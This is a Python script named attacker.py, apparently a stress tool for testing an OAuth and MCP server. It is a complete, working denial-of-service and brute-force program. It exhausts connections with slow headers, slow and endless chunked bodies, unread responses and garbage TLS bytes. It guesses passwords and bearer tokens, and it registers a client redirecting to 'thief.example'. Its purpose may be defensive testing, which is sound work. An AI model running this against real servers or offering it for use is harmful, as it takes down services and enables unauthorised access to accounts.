"""Strangers who want a server on its knees: run as a program of its own, `attacker.py HOST PORT CONNECTIONS`.

It opens so many connections and keeps as many open, each with a way of its own to be a burden: silence, a head or a body
that comes a byte at a time, chunks without end, answers that are not read, wrong tokens on the page and at the endpoint.
Whatever the server closes is opened again. At the end of its standard input, when it has opened as many at least, it prints
as JSON how many connections it has opened and which answers it has seen.
"""

import collections
import json
import resource
import select
import socket
import sys
import time

TICK = 0.05         # a slow sender sends so often ...
TURN = 20           # ... if it is its turn, which comes once in so many
CLIENT = b""         # registered at the start, so that guesses come as far as they can
FORM = b"Host: h\r\nContent-Type: application/x-www-form-urlencoded\r\n"
CHUNK = b"fa0\r\n%s\r\n" % (b"x" * 4000)


class Way:
    """How a connection behaves: what it sends at first, what it goes on to send, and whether it reads."""

    def __init__(self, first, more=b"", reads=True, again=False):
        self.first, self.more, self.reads, self.again = first, more, reads, again


def guess(n):
    body = b"response_type=code&client_id=%s&code_challenge=%s&password=guess-%d" % (CLIENT, b"x" * 43, n)
    return b"POST /oauth/authorize HTTP/1.1\r\n%sContent-Length: %d\r\n\r\n%s" % (FORM, len(body), body)


def bearer(n):
    return b"POST /mcp HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer guess-%d-0123456789\r\nContent-Length: 0\r\n\r\n" % n


def way_of(n):
    return [
        Way(b""),
        Way(b"POST /mcp HTTP/1.1\r\nHost: h\r\nX-", b"x"),
        Way(b"POST /oauth/token HTTP/1.1\r\n%sContent-Length: 16000\r\n\r\n" % FORM, b"x"),
        Way(b"POST /oauth/register HTTP/1.1\r\n%sTransfer-Encoding: chunked\r\n\r\n" % FORM + CHUNK * (n // 8 % 6), CHUNK),
        Way(b"GET / HTTP/1.1\r\nHost: h\r\n\r\n" * 200, reads=False),
        Way(guess(n), guess(n), again=True),
        Way(bearer(n), bearer(n), again=True),
        Way(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(200)), b"\x00"),
    ][n % 8]


class Crowd:
    def __init__(self, host, port, size):
        self.address, self.size = (host, port), size
        self.poll = select.epoll()
        self.members = {}           # descriptor -> (socket, way)
        self.opened, self.statuses = 0, collections.Counter()

    def open(self):
        s = socket.socket()
        s.setblocking(False)
        way = way_of(self.opened)
        if not way.reads:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.connect_ex(self.address)
        self.opened += 1
        self.members[s.fileno()] = s, way
        self.poll.register(s, select.EPOLLOUT)

    def drop(self, fd):
        s, _ = self.members.pop(fd)
        self.poll.unregister(fd)
        s.close()

    def send(self, fd, data):
        s, _ = self.members[fd]
        try:
            if data:
                s.send(data)
        except BlockingIOError:
            pass
        except OSError:
            self.drop(fd)

    def event(self, fd, what):
        s, way = self.members[fd]
        if what & select.EPOLLOUT:
            self.poll.modify(fd, select.EPOLLIN if way.reads else 0)
            self.send(fd, way.first)
            return
        try:
            data = s.recv(1 << 16)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if not data:
            self.drop(fd)
        elif data.startswith(b"HTTP/1.1 "):
            self.statuses[int(data[9:12])] += 1

    def go_on(self, turn):
        for fd in [fd for fd in self.members if fd % TURN == turn]:
            self.send(fd, self.members[fd][1].more)

    def run(self):
        turn, due = 0, time.monotonic()
        while self.opened < self.size or not select.select([sys.stdin], [], [], 0)[0]:
            for _ in range(min(100, self.size - len(self.members))):
                self.open()
            for fd, what in self.poll.poll(TICK / 2, 500):
                if fd in self.members:
                    self.event(fd, what)
            if time.monotonic() > due:
                due, turn = time.monotonic() + TICK, (turn + 1) % TURN
                self.go_on(turn)


def register(address):
    body = b'{"redirect_uris":["https://thief.example/"]}'
    with socket.create_connection(address) as s:
        s.sendall(b"POST /oauth/register HTTP/1.0\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
        answer = b"".join(iter(lambda: s.recv(1 << 16), b""))
    return json.loads(answer.partition(b"\r\n\r\n")[2])["client_id"].encode()


def main():
    global CLIENT
    host, port, size = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    CLIENT = register((host, port))
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    crowd = Crowd(host, port, size)
    crowd.run()
    print(json.dumps({"opened": crowd.opened, "statuses": crowd.statuses}))


if __name__ == "__main__":
    main()
